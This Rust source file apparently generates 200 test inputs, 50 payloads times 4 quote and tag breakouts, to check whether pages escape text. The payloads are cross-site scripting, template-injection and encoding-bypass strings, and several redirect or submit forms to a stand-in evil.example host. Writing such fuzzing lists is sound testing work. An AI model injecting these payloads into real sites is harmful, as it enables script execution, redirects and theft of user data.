//! Texts that break out of where they are put, wherever a page forgets to say that they are texts.

/// What a text may try to become.
const TRIES: &[&str] = &[
    "<script>x()</script>",
    "</script><script>x()</script>",
    "<img src=x onerror=x()>",
    "<svg onload=x()>",
    "<svg/onload=x()//",
    "<b>fett</b>",
    "<!--",
    "--><b>",
    "<![CDATA[<b>]]>",
    "<?xml version='1.0'?>",
    "</title><b>",
    "</textarea><b>",
    "</option></select><b>",
    "</td></tr></table><b>",
    "</style><b>",
    "</template><b>",
    "<template><b>",
    "<iframe srcdoc='<b>'>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>",
    "<input autofocus onfocus=x()>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=x()>",
    "<plaintext>",
    "onmouseover=x()",
    " onfocus=x() autofocus ",
    "javascript:x()",
    "data:text/html,<b>",
    "{{ self }}",
    "{{7*7}}",
    "{% include 'x' %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "&lt;b&gt;",
    "&#x3c;b&#x3e;",
    "&#60b&#62",
    "&lt",
    "%3Cb%3E",
    "\\u003cb\\u003e",
    "\\x3cb\\x3e",
    "];x();//",
    "\\",
    "\n<b>\r\n",
    "\t<b\t>",
    "＜b＞",
    "\u{202e}<b>",
    "\u{2028}<b>",
    "\u{feff}<b>",
];

/// How the place is left first: not at all, out of double quotes, of single ones, of a tag.
const WAYS: &[(&str, &str)] = &[("", ""), ("\"", "\""), ("'>", "<a '"), ("\">", "<a \"")];

/// Every payload: 200 of them.
pub fn payloads() -> Vec<String> {
    let all = WAYS
        .iter()
        .flat_map(|(before, after)| TRIES.iter().map(move |text| format!("{before}{text}{after}")));
    all.collect()
}
